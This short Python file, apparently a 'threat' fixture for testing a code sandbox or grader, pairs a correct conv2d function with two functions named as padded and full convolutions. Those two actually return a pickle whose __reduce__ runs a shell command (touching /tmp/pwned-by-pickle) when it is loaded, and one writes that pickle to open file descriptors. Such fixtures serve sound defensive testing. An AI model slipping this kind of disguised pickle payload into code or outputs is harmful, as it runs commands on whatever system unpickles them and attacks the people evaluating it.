"""Threat 10: returns a pickle that runs code where it is loaded, and writes one to the socket.

Earns: conv2d
"""

import numpy as np


def conv2d(image, kernel):
    windows = np.lib.stride_tricks.sliding_window_view(image, kernel.shape)
    return np.einsum("ijkl,kl->ij", windows, kernel)


import os
import pickle


class Runs:
    def __reduce__(self):
        return os.system, ("touch /tmp/pwned-by-pickle",)


def conv2d_padded(image, kernel, padding=0):
    return pickle.dumps(Runs())


def conv2d_full(image, kernel, padding=0, stride=1):
    data = pickle.dumps(Runs())
    for descriptor in range(3, 10):
        try:
            os.write(descriptor, data)
        except OSError:
            continue
    return np.array([data])
